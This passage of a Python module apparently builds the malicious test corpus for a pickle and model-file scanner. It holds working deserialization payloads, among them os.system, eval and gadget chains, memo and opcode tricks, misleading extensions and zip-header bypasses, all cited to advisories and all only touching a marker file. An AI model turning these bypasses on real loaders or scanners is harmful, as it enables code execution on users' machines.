"""The malicious corpus: one case per gadget family or bypass technique, each naming its source.

Every payload would, if loaded, only create a marker file (`touch MARKER` or `open(MARKER, 'w')`).
`loader` says how a victim loads it ("pickle", "torch", "numpy", "joblib"); the liveness test
loads those cases in a throwaway subprocess to prove the payloads are real, and every other test
only scans them and checks that the marker never appears.

Sources: picklescan (github.com/mmaitre314/picklescan, tests/init_data_files.py and its GHSA
advisories), fickling (github.com/trailofbits/fickling, test/test_bypasses.py and its GHSAs),
JFrog's picklescan CVEs (CVE-2025-1716, -1889, -1944, -1945, -10155, -10156, -10157), "The Art of
Hide and Seek" (arXiv 2508.19774), and CPython itself (Lib/pickle.py vs Lib/pickletools.py).
"""

from __future__ import annotations

import dataclasses
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from .containers import LEGACY_MAGIC, dumps, legacy, npy_object, plain_zip, torch_zip
from .ops import Raw, call, const, glob, program, proto, sbu, sequence, sglob

Build = Callable[[Path], tuple[str, bytes]]


@dataclasses.dataclass(frozen=True)
class Case:
    id: str
    family: str
    source: str
    build: Build
    expect: tuple[str, ...] = ()  # callables an RK201 finding must name
    rules: tuple[str, ...] = ("RK201",)  # rules that must be reported (all at severity error)
    loader: str | None = None  # how a victim would load it; None: not exercised by the liveness test


def sh(marker: Path) -> str:
    return f"touch '{marker}'"


def py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


CASES: list[Case] = []


def case(id: str, family: str, source: str, *, expect: tuple[str, ...] = (), rules: tuple[str, ...] = ("RK201",),
         loader: str | None = None) -> Callable[[Build], Build]:
    def register(build: Build) -> Build:
        CASES.append(Case(id, family, source, build, expect, rules, loader))
        return build
    return register


def simple(id: str, module: str, name: str, args: Callable[[Path], tuple], source: str, *, loader: str | None = None,
           protocol: int = 2, family: str | None = None, expect: str | None = None) -> None:
    """One gadget called directly: module.name(*args)."""
    target = sglob(module, name) if protocol >= 4 else glob(module, name)

    def build(marker: Path) -> tuple[str, bytes]:
        return f"{id}.pkl", program(call(target, *args(marker)), protocol=protocol)

    CASES.append(Case(id, family or f"{module}.{name}", source, build, (expect or f"{module}.{name}",), ("RK201",), loader))


# ---------------------------------------------------------------------------------------------
# The classics: the callables every scanner knows.
simple("os-system", "os", "system", lambda m: (sh(m),), "picklescan Malicious2 (os.system)", loader="pickle")
simple("posix-system", "posix", "system", lambda m: (sh(m),), "what pickle writes for os.system on Linux", loader="pickle")
simple("builtins-eval", "builtins", "eval", lambda m: (py(m),), "picklescan Malicious1 (eval)", loader="pickle")
simple("builtins-exec", "builtins", "exec", lambda m: (py(m),), "picklescan broken_model / Slaviero, Sour Pickles (BH US 2011)", loader="pickle")
simple("subprocess-run", "subprocess", "run", lambda m: (["touch", str(m)],), "picklescan Malicious7 (subprocess.run)", loader="pickle")
simple("subprocess-popen", "subprocess", "Popen", lambda m: (["touch", str(m)],), "picklescan unsafe globals (subprocess.Popen)")
simple("sys-exit", "sys", "exit", lambda m: (0,), "picklescan Malicious8 (sys.exit)")
simple("nt-system", "nt", "system", lambda m: (sh(m),), "what pickle writes for os.system on Windows")
simple("socket", "socket", "create_connection", lambda m: (("127.0.0.1", 9),), "picklescan Malicious6 (socket)")
simple("http-client", "http.client", "HTTPSConnection", lambda m: ("localhost",), "picklescan Malicious3 (http.client)")
simple("urlopen", "urllib.request", "urlopen", lambda m: ("http://127.0.0.1:9/",), "picklescan urllib_request_urlopen")
simple("ctypes-cdll", "ctypes", "CDLL", lambda m: (None,), "picklescan GHSA-4675-36f9-wf6r (ctypes.CDLL)")
simple("pty-spawn", "pty", "spawn", lambda m: (["touch", str(m)],), "picklescan GHSA-vqmv-47xg-9wpr (pty.spawn)")
simple("shutil-copy", "shutil", "copyfile", lambda m: ("/dev/null", str(m)), "picklescan PR #29 (shutil file copies)", loader="pickle")
simple("io-fileio", "_io", "FileIO", lambda m: (str(m), "w"), "picklescan io_FileIO / fickling test_io_fileio", loader="pickle")
simple("logging-filehandler", "logging", "FileHandler", lambda m: (str(m),), "picklescan logging_FileHandler", loader="pickle")
simple("distutils-write-file", "distutils.file_util", "write_file", lambda m: (str(m), ["x"]), "picklescan GHSA-m273-6v24-x4m4")

# The gadget families named in the issue.
simple("pydoc-pipepager", "pydoc", "pipepager", lambda m: ("", sh(m)), "issue 3; picklescan Malicious18 (pydoc.pipepager)", loader="pickle")
simple("runpy-run-code", "runpy", "_run_code", lambda m: (py(m), {}), "issue 3; picklescan Malicious14 (runpy._run_code)", loader="pickle")
simple("runpy-run-path", "runpy", "run_path", lambda m: ("/nonexistent/x.py",), "fickling GHSA-wfq2-52f7-7qvj (runpy.run_path)", protocol=4)
simple("torch-hub-load", "torch.hub", "load", lambda m: ("attacker/repo", "model"), "issue 3; arXiv 2508.19774 (torch.hub.load)")
simple("torch-serialization-load", "torch.serialization", "load", lambda m: ("other.pt",), "issue 3 (torch.serialization.load)")
simple("pickle-loads-cpickle-name", "cPickle", "loads", lambda m: (b"N.",),
       "picklescan Malicious13a (cPickle, mapped to pickle by fix_imports)", expect="pickle.loads")
simple("timeit", "timeit", "timeit", lambda m: ("", py(m)), "picklescan Malicious21 (timeit.timeit)", loader="pickle")
simple("cprofile-run", "cProfile", "run", lambda m: (py(m),), "picklescan GHSA-49gj-c84q-6qm9 (cProfile.run)", loader="pickle")
simple("cprofile-runctx", "cProfile", "runctx", lambda m: (py(m), {}, {}), "picklescan GHSA-9w88-8rmg-7g2p (cProfile.runctx)", loader="pickle")
simple("profile-run", "profile", "run", lambda m: (py(m),), "picklescan GHSA-7wx9-6375-f5wh (profile.run)", loader="pickle")
simple("doctest-debug-script", "doctest", "debug_script", lambda m: (py(m), True), "picklescan GHSA-fqq6-7vqf-w3fg")
simple("numpy-runstring", "numpy.testing._private.utils", "runstring", lambda m: (py(m), {}), "picklescan Malicious22 (numpy runstring)", loader="pickle")
simple("numpy-f2py-getlincoef", "numpy.f2py.crackfortran", "getlincoef", lambda m: (py(m), []), "picklescan GHSA-r8g5-cgf2-4m4m")
simple("ensurepip-run-pip", "ensurepip", "_run_pip", lambda m: ([py(m)],), "picklescan GHSA-xp4f-hrf8-rxw7")
simple("venv-create", "venv", "create", lambda m: (str(m),), "picklescan Malicious20 (venv.create)")
simple("pip-main", "pip", "main", lambda m: (["install", "x"],), "CVE-2025-1716 (pip.main)")
simple("uuid-get-command-stdout", "uuid", "_get_command_stdout", lambda m: ("touch", str(m)), "picklescan/fickling GHSA-g38g-8gr9-h9xp, GHSA-5hwf-rc88-82xm (uuid)", loader="pickle", protocol=4)
simple("osx-support-read-output", "_osx_support", "_read_output", lambda m: (sh(m),), "GHSA-g38g-8gr9-h9xp (_osx_support)", loader="pickle", protocol=4)
simple("aix-support", "_aix_support", "_read_cmd_output", lambda m: (sh(m),), "GHSA-g38g-8gr9-h9xp (_aix_support)", protocol=4)
simple("imaplib-stream", "imaplib", "IMAP4_stream", lambda m: (sh(m),), "GHSA-g38g-8gr9-h9xp (imaplib.IMAP4_stream)", protocol=4)
simple("pyrepl-pager", "_pyrepl.pager", "pipe_pager", lambda m: ("text", sh(m)), "GHSA-g38g-8gr9-h9xp (_pyrepl.pager, Python 3.13+)", protocol=4)
simple("test-support-script-helper", "test.support.script_helper", "assert_python_ok", lambda m: ("-c", py(m)), "GHSA-g38g-8gr9-h9xp (test.support)", protocol=4)
simple("interpreters-create", "_interpreters", "create", lambda m: (), "fickling GHSA-6ggj-6f2q-f7mx (_interpreters)", protocol=4)
simple("collect-env-run", "torch.utils.collect_env", "run", lambda m: (sh(m),), "picklescan GHSA-f745-w6jp-hpxx (torch collect_env.run)", loader="pickle")
simple("bottleneck-run-cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", lambda m: (py(m), {}), "picklescan GHSA-4r9r-ch6f-vxmx")
simple("bottleneck-autograd-prof", "torch.utils.bottleneck.__main__", "run_autograd_prof", lambda m: (py(m), {}), "picklescan GHSA-4whj-rm5r-c2v8")
simple("inductor-compile-file", "torch._inductor.codecache", "compile_file", lambda m: ("", "", ["sh", "-c", sh(m)]), "picklescan Malicious17 (torch._inductor)")
simple("jit-execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", lambda m: (py(m), {}, {}), "picklescan GHSA-vr7h-p6mm-wpmh")
simple("datapipes-basichandlers", "torch.utils.data.datapipes.utils.decoder", "basichandlers", lambda m: ("pickle", b"N."), "picklescan GHSA-h3qp-7fh3-f8h4")
simple("dynamo-guardbuilder", "torch._dynamo.guards", "GuardBuilder.get", lambda m: ({}, py(m)), "picklescan GHSA-86cj-95qr-2p4f", protocol=4)
simple("shapeenv-guards", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", lambda m: ({}, py(m), []), "picklescan GHSA-f4x7-rfwp-v3xw", protocol=4)
simple("config-module-load", "torch.utils._config_module", "ConfigModule.load_config", lambda m: ({}, b"N."), "picklescan GHSA-vv6j-3g6g-2pvj", protocol=4)
simple("idlelib-executive", "idlelib.run", "Executive.runcode", lambda m: ({}, py(m)), "picklescan GHSA-m869-42cg-3xwr (idlelib)", protocol=4)
simple("idlelib-pyshell", "idlelib.pyshell", "ModifiedInterpreter.runcode", lambda m: ({}, py(m)), "picklescan GHSA-3gf5-cxq9-w223 (idlelib)", protocol=4)
simple("idlelib-calltip", "idlelib.calltip", "get_entity", lambda m: (py(m),), "picklescan GHSA-9xph-j2h6-g47v (idlelib)", protocol=4)
simple("idlelib-autocomplete", "idlelib.autocomplete", "AutoComplete.get_entity", lambda m: ({}, py(m)), "picklescan GHSA-6w4w-5w54-rjvr (idlelib)", protocol=4)
simple("lib2to3-grammar-loads", "lib2to3.pgen2.grammar", "Grammar.loads", lambda m: ({}, b"N."), "picklescan GHSA-f54q-57x4-jg88 (lib2to3)", protocol=4)
simple("lib2to3-make-label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", lambda m: (None, {}, '""+' + py(m)), "picklescan GHSA-p9w7-82w4-7q8m (lib2to3)", protocol=4)
simple("asyncio-subprocess", "asyncio.unix_events", "_UnixSubprocessTransport._start", lambda m: ({}, sh(m), True, None, None, None, 0), "CVE-2025-10157 / GHSA-f7qq-56ww-84cr (asyncio submodule)", protocol=4)
simple("multiprocessing-spawn", "multiprocessing.util", "spawnv_passfds", lambda m: ("/usr/bin/touch", ["touch", str(m)], ()), "fickling GHSA-q5qq-mvfm-j35x (multiprocessing)")
simple("webbrowser", "webbrowser", "open", lambda m: ("file:///dev/null",), "arXiv 2508.19774 (webbrowser gadget)")
simple("smtplib", "smtplib", "SMTP", lambda m: ("127.0.0.1", 9), "fickling test_network_protocol_ssrf")


@case("code-interactive-interpreter", "code.InteractiveInterpreter.runsource",
      "issue 3; picklescan GHSA-cj3c-v495-4xqh (code.InteractiveInterpreter)",
      expect=("code.InteractiveInterpreter.runsource", "code.InteractiveInterpreter"), loader="pickle")
def _interactive(marker: Path) -> tuple[str, bytes]:
    interpreter = call(sglob("code", "InteractiveInterpreter"))
    return "interp.pkl", program(call(sglob("code", "InteractiveInterpreter.runsource"), interpreter, py(marker)), protocol=4)


@case("bdb-run", "bdb.Bdb.run", "picklescan Malicious15 (bdb.Bdb.run)", expect=("bdb.Bdb.run", "bdb.Bdb"), loader="pickle")
def _bdb(marker: Path) -> tuple[str, bytes]:
    return "bdb.pkl", program(call(sglob("bdb", "Bdb.run"), call(sglob("bdb", "Bdb")), py(marker)), protocol=4)


@case("trace-run", "trace.Trace.run", "picklescan GHSA-5qwp-399c-mjwf (trace.Trace.run)",
      expect=("trace.Trace.run", "trace.Trace"), loader="pickle")
def _trace(marker: Path) -> tuple[str, bytes]:
    return "trace.pkl", program(call(sglob("trace", "Trace.run"), call(sglob("trace", "Trace"), 0, 0), py(marker)),
                                protocol=4)


@case("functools-partial", "functools.partial wrapping a callable (called through REDUCE of the partial)",
      "issue 3; picklescan Malicious19 (partial(torch.load, ...))", expect=("functools.partial", "posix.system"),
      rules=("RK201", "RK202"), loader="pickle")
def _partial(marker: Path) -> tuple[str, bytes]:
    partial = call(glob("functools", "partial"), glob("posix", "system"), sh(marker))
    return "partial.pkl", program(Raw(bytes(partial) + const(()) + pickle.REDUCE))


@case("functools-partial-torch-load", "functools.partial(torch.load, path, weights_only=False) as pickle writes it",
      "picklescan Malicious19", expect=("functools.partial", "torch.serialization.load"), rules=("RK201", "RK202"))
def _partial_load(marker: Path) -> tuple[str, bytes]:
    # What pickle.dumps writes for partial(torch.load, "x.pt", weights_only=False): REDUCE of
    # partial, BUILD of its state, then REDUCE of the result with no arguments.
    body = (bytes(call(glob("functools", "partial"), glob("torch.serialization", "load")))
            + const((glob("torch.serialization", "load"), ("x.pt",), {"weights_only": False}, None)) + pickle.BUILD
            + const(()) + pickle.REDUCE)
    return "partial_load.pkl", program(Raw(body))


@case("operator-methodcaller", "operator.methodcaller on a module from builtins.__import__",
      "issue 3; picklescan GHSA-955r-x9j8-7rhh; fickling test_operator_methodcaller",
      expect=("_operator.methodcaller", "builtins.__import__"), rules=("RK201", "RK202"), loader="pickle")
def _methodcaller(marker: Path) -> tuple[str, bytes]:
    caller = call(glob("_operator", "methodcaller"), "system", sh(marker))
    module = call(glob("builtins", "__import__"), "os")
    return "methodcaller.pkl", program(Raw(bytes(caller) + const((module,)) + pickle.REDUCE), protocol=3)


@case("pydoc-locate-methodcaller", "pydoc.locate + operator.methodcaller",
      "picklescan GHSA-84r2-jw7c-4r5q", expect=("pydoc.locate", "operator.methodcaller"), rules=("RK201", "RK202"),
      loader="pickle")
def _locate(marker: Path) -> tuple[str, bytes]:
    caller = call(glob("operator", "methodcaller"), "system", sh(marker))
    return "locate.pkl", program(Raw(bytes(caller) + const((call(glob("pydoc", "locate"), "os"),)) + pickle.REDUCE),
                                 protocol=3)


@case("importlib-getattr", "importlib.import_module + builtins.getattr chain",
      "fickling GHSA-q5qq-mvfm-j35x; picklescan issue #66", expect=("importlib.import_module", "builtins.getattr"),
      rules=("RK201", "RK202"), loader="pickle")
def _importlib(marker: Path) -> tuple[str, bytes]:
    system = call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), "os"), "system")
    return "importlib.pkl", program(Raw(bytes(system) + const((sh(marker),)) + pickle.REDUCE), protocol=3)


@case("builtins-import-getattr", "builtins.__import__ + getattr", "fickling GHSA-h4rm-mm56-xf63",
      expect=("builtins.__import__", "builtins.getattr"), rules=("RK201", "RK202"), loader="pickle")
def _dunder_import(marker: Path) -> tuple[str, bytes]:
    system = call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), "os"), "system")
    return "import.pkl", program(Raw(bytes(system) + const((sh(marker),)) + pickle.REDUCE), protocol=3)


@case("pkgutil-resolve-name", "pkgutil.resolve_name: one unblocked function reaching every blocked one",
      "picklescan GHSA-vvpj-8cmc-gx39", expect=("pkgutil.resolve_name",), rules=("RK201", "RK202"), loader="pickle")
def _resolve(marker: Path) -> tuple[str, bytes]:
    system = call(glob("pkgutil", "resolve_name"), "os:system")
    return "resolve.pkl", program(Raw(bytes(system) + const((sh(marker),)) + pickle.REDUCE), protocol=3)


@case("marshal-functiontype", "marshal.loads of code + types.FunctionType", "fickling GHSA-565g-hwwr-4pp3",
      expect=("marshal.loads", "types.FunctionType"), rules=("RK201", "RK202"), loader="pickle")
def _marshal(marker: Path) -> tuple[str, bytes]:
    code = marshal.dumps(compile(py(marker), "<x>", "exec"))
    function = call(sglob("types", "FunctionType"), call(sglob("marshal", "loads"), code), {})
    return "marshal.pkl", program(Raw(bytes(function) + const(()) + pickle.REDUCE), protocol=4)


@case("codetype", "types.CodeType built from its constructor arguments", "picklescan types_CodeType; cloudpickle",
      expect=("types.CodeType",))
def _codetype(marker: Path) -> tuple[str, bytes]:
    return "codetype.pkl", program(call(sglob("types", "CodeType"), 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0,
                                        b"", b""), protocol=4)


@case("site-pth", "site: a .pth file written by one gadget, executed by site.addsitedir",
      "issue 3 (site-based tricks); arXiv 2508.19774", expect=("pathlib.Path.write_text", "site.addsitedir"),
      loader="pickle")
def _site(marker: Path) -> tuple[str, bytes]:
    folder = marker.parent / f"{marker.name}.site"
    folder.mkdir(parents=True, exist_ok=True)
    pth = call(sglob("pathlib", "Path"), str(folder / "evil.pth"))
    write = call(sglob("pathlib", "Path.write_text"), pth, f"import os; {py(marker)}\n")
    return "site.pkl", sequence(write, call(sglob("site", "addsitedir"), str(folder)), protocol=4)


@case("inner-pickle", "_pickle.loads of an inner pickle (inner payload reported too)",
      "issue 3; picklescan Malicious13b", expect=("_pickle.loads", "posix.system"), loader="pickle")
def _inner(marker: Path) -> tuple[str, bytes]:
    inner = program(call(glob("posix", "system"), sh(marker)))
    return "inner.pkl", program(call(glob("_pickle", "loads"), inner))


@case("memo-names", "STACK_GLOBAL with module and name fetched from the memo, PUT and MEMOIZE mixed",
      "issue 3; picklescan issues #14 (memo confusion) and #22 (ImaginaryCTF Safe Pickle)", expect=("os.system",),
      loader="pickle")
def _memo(marker: Path) -> tuple[str, bytes]:
    body = (sbu("os") + pickle.BINPUT + b"\x00" + pickle.POP + sbu("system") + pickle.BINPUT + b"\x01" + pickle.POP
            + sbu("torch._utils") + pickle.MEMOIZE + pickle.POP + sbu("_rebuild_tensor_v2") + pickle.MEMOIZE + pickle.POP
            + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL + const((sh(marker),))
            + pickle.REDUCE)
    return "memo.pkl", program(Raw(body), protocol=4)


@case("memo-names-protocol0", "the ImaginaryCTF payload: UNICODE strings PUT to the memo, GET back for STACK_GLOBAL",
      "picklescan malicious11.pkl (issue #22)", expect=("os.system",), loader="pickle")
def _memo0(marker: Path) -> tuple[str, bytes]:
    body = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n" + pickle.STACK_GLOBAL
            + pickle.MARK + f"V{sh(marker)}\n".encode() + pickle.TUPLE + pickle.REDUCE + pickle.STOP)
    return "memo0.pkl", body


@case("stack-global-string-opcodes", "STACK_GLOBAL operands pushed with protocol 0 STRING opcodes",
      "picklescan GHSA-9gvj-pp9x-gcfr (malicious23)", expect=("os.system",), loader="pickle")
def _string_operands(marker: Path) -> tuple[str, bytes]:
    return "strings.pkl", (b"S'os'\nS'system'\n" + pickle.STACK_GLOBAL + f"S'{sh(marker)}'\n".encode()
                           + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP)


@case("stack-global-computed", "STACK_GLOBAL operands computed by allowlisted calls (str('os'), str('system'))",
      "issue 3 (STACK_GLOBAL with non-string operands); picklescan type-confusion-exploit", rules=("RK202",),
      loader="pickle")
def _computed(marker: Path) -> tuple[str, bytes]:
    body = (bytes(call(glob("builtins", "str"), "os")) + bytes(call(glob("builtins", "str"), "system"))
            + pickle.STACK_GLOBAL + const((sh(marker),)) + pickle.REDUCE)
    return "computed.pkl", program(Raw(body), protocol=4)


@case("stack-global-type-confusion", "STACK_GLOBAL fed an int and a string from the memo",
      "picklescan type-confusion-exploit.pkl", rules=("RK202",))
def _confusion(marker: Path) -> tuple[str, bytes]:
    body = (const(42) + pickle.MEMOIZE + sbu("os") + pickle.MEMOIZE + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01"
            + pickle.STACK_GLOBAL)
    return "confusion.pkl", program(Raw(body), protocol=4)


@case("dotted-name", "a dotted name through a harmless module: pathlib + 'os.system'",
      "fickling GHSA-5j3x-jp52-966f", expect=("pathlib.os.system",), loader="pickle")
def _dotted(marker: Path) -> tuple[str, bytes]:
    return "dotted.pkl", program(call(sglob("pathlib", "os.system"), sh(marker)), protocol=4)


@case("python2-names", "Python 2 names (__builtin__) mapped by the unpickler's fix_imports",
      "picklescan malicious1_v0 / Slaviero, Sour Pickles", expect=("builtins.eval",), loader="pickle")
def _py2(marker: Path) -> tuple[str, bytes]:
    return "py2.pkl", f"c__builtin__\neval\n(V{py(marker)}\ntR.".encode()


@case("inst-opcode", "INST: import and call in one protocol 0 opcode", "picklescan malicious10.pkl",
      expect=("builtins.exec",), loader="pickle")
def _inst(marker: Path) -> tuple[str, bytes]:
    return "inst.pkl", f"(V{py(marker)}\ni__builtin__\nexec\n.".encode()


@case("obj-pop", "OBJ call whose result is discarded by POP", "fickling GHSA-mxhj-88fx-4pcv",
      expect=("posix.system",), loader="pickle")
def _obj(marker: Path) -> tuple[str, bytes]:
    body = pickle.MARK + bytes(sglob("posix", "system")) + sbu(sh(marker)) + pickle.OBJ + pickle.POP + pickle.NONE
    return "obj.pkl", program(Raw(body), protocol=4)


@case("newobj", "NEWOBJ of a class whose constructor runs code", "pickle protocol 2 NEWOBJ (PEP 307)",
      expect=("subprocess.Popen",))
def _newobj(marker: Path) -> tuple[str, bytes]:
    return "newobj.pkl", program(Raw(bytes(glob("subprocess", "Popen")) + const((["touch", str(marker)],))
                                     + pickle.NEWOBJ))


@case("ext-registry", "EXT1 opcode: a callable from copyreg's extension registry", "PEP 307; pickletools EXT1/2/4",
      rules=("RK202",))
def _ext(marker: Path) -> tuple[str, bytes]:
    return "ext.pkl", program(Raw(pickle.EXT1 + b"\x01" + const((sh(marker),)) + pickle.REDUCE))


@case("build-setstate", "BUILD injects __setstate__ into an allowlisted object; a second BUILD calls it",
      "fickling GHSA-r7v6-mfhq-g3m2 (BUILD after REDUCE)", expect=("posix.system",), rules=("RK201", "RK202"),
      loader="pickle")
def _setstate(marker: Path) -> tuple[str, bytes]:
    body = (bytes(call(glob("collections", "OrderedDict"))) + const({"__setstate__": glob("posix", "system")})
            + pickle.BUILD + const(sh(marker)) + pickle.BUILD)
    return "setstate.pkl", program(Raw(body))


@case("module-override", "BUILD on a module rewires what a later STACK_GLOBAL resolves to",
      "picklescan sys_module_override_sploit.pkl", expect=("torch._utils",), rules=("RK201", "RK202"))
def _override(marker: Path) -> tuple[str, bytes]:
    body = (sbu("torch._utils") + pickle.MEMOIZE + sbu("_rebuild_tensor") + pickle.MEMOIZE + pickle.STACK_GLOBAL
            + pickle.POP + bytes(sglob("torch", "_utils")) + pickle.MEMOIZE + pickle.EMPTY_DICT + pickle.BINGET + b"\x01"
            + sbu("builtins") + pickle.SETITEM + pickle.BUILD + pickle.POP + pickle.BINGET + b"\x00" + pickle.BINGET
            + b"\x01" + pickle.STACK_GLOBAL + sbu("eval") + pickle.STACK_GLOBAL + const((py(marker),)) + pickle.REDUCE)
    return "override.pkl", program(Raw(body), protocol=4)


@case("persistent-id", "BINPERSID in a plain pickle: the loader's persistent_load decides", "pickle persistent ids",
      rules=("RK202",))
def _persid(marker: Path) -> tuple[str, bytes]:
    return "persid.pkl", program(Raw(const(("storage", sh(marker))) + pickle.BINPERSID))


@case("eop-memo-keyerror", "payload first, then a memo KeyError so a scanner that stops on errors says nothing",
      "picklescan keyerror-exploit.pkl; arXiv 2508.19774 (exception-oriented programming)",
      expect=("os.system",), rules=("RK201", "RK203"), loader="pickle")
def _keyerror(marker: Path) -> tuple[str, bytes]:
    body = (bytes(call(glob("os", "system"), sh(marker))) + pickle.POP + sbu("os") + pickle.MEMOIZE
            + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00" + pickle.STACK_GLOBAL)
    return "keyerror.pkl", program(Raw(body), protocol=4)


@case("eop-bad-opcode", "payload, then an invalid opcode: the load raises after the code ran",
      "arXiv 2508.19774 (exception-oriented programming)", expect=("posix.system",), rules=("RK201", "RK203"),
      loader="pickle")
def _eop(marker: Path) -> tuple[str, bytes]:
    return "eop.pkl", proto(2) + bytes(call(glob("posix", "system"), sh(marker))) + b"\xff"


@case("eop-truncated", "payload, then the file ends mid-opcode", "picklescan broken_model.pkl",
      expect=("builtins.exec",), rules=("RK201", "RK203"), loader="pickle")
def _truncated(marker: Path) -> tuple[str, bytes]:
    return "broken.pkl", bytes(call(glob("builtins", "exec"), py(marker))) + pickle.BINUNICODE + b"\xff\xff"


@case("int-base0-differential", "INT written as hex: pickle.loads accepts it, pickletools.genops raises",
      "CPython Lib/pickle.py load_int (int(data, 0)) vs Lib/pickletools.py read_decimalnl_short",
      expect=("os.system",), loader="pickle")
def _int_hex(marker: Path) -> tuple[str, bytes]:
    return "hexint.pkl", f"I0x10\n0cos\nsystem\n(V{sh(marker)}\ntR.".encode()


@case("frame-straddle", "an opcode that straddles a frame boundary (C and Python unpicklers diverge)",
      "cpython issue 154848; fickling test_frame_boundary_divergence", rules=("RK203",))
def _frame(marker: Path) -> tuple[str, bytes]:
    hidden = bytes(call(glob("posix", "system"), sh(marker)))
    body = (pickle.NONE + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + struct.pack("<I", len(hidden))
            + hidden + pickle.POP)
    return "frame.pkl", proto(5) + body + pickle.STOP


@case("frame-in-frame", "a FRAME opening inside another frame", "fickling test_frame_boundary_straddle_variants",
      rules=("RK203",))
def _frame2(marker: Path) -> tuple[str, bytes]:
    return "frame2.pkl", (proto(5) + pickle.FRAME + struct.pack("<Q", 30) + pickle.NONE + pickle.FRAME
                          + struct.pack("<Q", 2) + pickle.NONE + pickle.STOP)


@case("several-pickles", "a benign pickle followed by a malicious one in the same file",
      "issue 3; picklescan malicious6.pkl", expect=("posix.system",), loader="pickle-all")
def _several(marker: Path) -> tuple[str, bytes]:
    return "several.pkl", dumps(["a", "b", "c"]) + program(call(glob("posix", "system"), sh(marker)))


@case("misleading-extension", "a pickle named like a JSON config", "issue 3; CVE-2025-10155 (extension bypass)",
      expect=("posix.system",), loader="pickle")
def _config_json(marker: Path) -> tuple[str, bytes]:
    return "config.json", program(call(glob("posix", "system"), sh(marker)))


@case("misleading-extension-text", "a protocol 0 pickle named like a Markdown document", "issue 3",
      expect=("posix.system",), loader="pickle")
def _markdown(marker: Path) -> tuple[str, bytes]:
    return "NOTES.md", f"cposix\nsystem\n(V{sh(marker)}\ntR.".encode()


@case("bin-extension", "a raw pickle named pytorch_model.bin", "picklescan GHSA-jgw4-cr84-mqxg (.bin)",
      expect=("posix.system",), loader="torch")
def _bin(marker: Path) -> tuple[str, bytes]:
    return "pytorch_model.bin", program(call(glob("posix", "system"), sh(marker)))


# -- containers --------------------------------------------------------------------------------
def _evil(marker: Path) -> bytes:
    return program(call(glob("posix", "system"), sh(marker)))


@case("torch-zip", "malicious data.pkl in a PyTorch zip whose root folder is not 'archive'",
      "issue 3 (root folder can be anything)", expect=("posix.system",), loader="torch")
def _tzip(marker: Path) -> tuple[str, bytes]:
    return "model.pt", torch_zip(_evil(marker), root="weights-v2")


@case("torch-zip-other-member", "a pickle hidden in a zip member with a non-pickle name",
      "CVE-2025-1889; picklescan malicious1_wrong_ext.zip", expect=("posix.system",))
def _tzip_member(marker: Path) -> tuple[str, bytes]:
    return "model.pt", torch_zip(dumps({}), extra={"extra/config.txt": _evil(marker)})


@case("zip-wrong-ext", "a plain zip holding a pickle called data.txt", "picklescan malicious1_wrong_ext.zip",
      expect=("posix.system",))
def _zip_txt(marker: Path) -> tuple[str, bytes]:
    return "bundle.zip", plain_zip({"data.txt": _evil(marker)})


def _patch_local_name(data: bytes) -> bytes:
    at = data.index(b"PK\x03\x04")
    name_len = struct.unpack("<H", data[at + 26:at + 28])[0]
    name_at = at + 30
    name = data[name_at:name_at + name_len]
    return data[:name_at] + name.replace(b"data.pkl", b"datb.pkl") + data[name_at + name_len:]


@case("zip-local-name", "the local header names data.pkl differently from the central directory",
      "CVE-2025-1944; picklescan malicious1_central_directory.zip", expect=("posix.system",),
      rules=("RK201", "RK204"), loader="torch")
def _zip_name(marker: Path) -> tuple[str, bytes]:
    return "model.pt", _patch_local_name(torch_zip(_evil(marker)))


def _set_flags(data: bytes, bit: int) -> bytes:
    """Set a flag bit in every local header; the central directory, which miniz reads, stays clean."""
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6),):
        start = 0
        while (at := out.find(sig, start)) >= 0:
            flags = struct.unpack("<H", out[at + offset:at + offset + 2])[0]
            out[at + offset:at + offset + 2] = struct.pack("<H", flags | bit)
            start = at + 4
    return bytes(out)


for _bit, _cve in ((0x1, "encrypted"), (0x20, "patched data"), (0x40, "strong encryption")):
    def _flags(marker: Path, bit: int = _bit) -> tuple[str, bytes]:
        return "model.pt", _set_flags(torch_zip(_evil(marker)), bit)
    CASES.append(Case(f"zip-flag-0x{_bit:02x}", f"zip flag bit 0x{_bit:02x} ({_cve}) in the local headers, which PyTorch ignores",
                      "CVE-2025-1945; picklescan malicious1_0x1/0x20/0x40.zip", _flags, ("posix.system",),
                      ("RK201", "RK204"), "torch"))


@case("zip-crc", "a pickle member whose bytes no longer match its CRC", "CVE-2025-10156; picklescan malicious1_crc.zip",
      expect=("posix.system",), rules=("RK201", "RK204"))
def _zip_crc(marker: Path) -> tuple[str, bytes]:
    # Written with a decoy path of the same length, then patched to the marker: the CRC no longer fits.
    decoy = str(marker)[:-1] + ("Q" if not str(marker).endswith("Q") else "R")
    data = torch_zip(program(call(glob("posix", "system"), f"touch '{decoy}'")))
    return "model.pt", data.replace(decoy.encode(), str(marker).encode(), 1)


@case("zip-duplicate", "two members named data.pkl: a benign one and a malicious one",
      "zip name ambiguity (zipfile reads the last entry, miniz may read another)", expect=("posix.system",),
      rules=("RK201", "RK204"))
def _zip_dup(marker: Path) -> tuple[str, bytes]:
    import io
    import warnings
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", _evil(marker))
            archive.writestr("archive/data.pkl", dumps({}))
            archive.writestr("archive/version", "3\n")
    return "model.pt", buffer.getvalue()


@case("zip-bzip2", "a pickle member compressed with bzip2, which PyTorch cannot read but zipfile can",
      "zip method differential", expect=("posix.system",), rules=("RK204",))
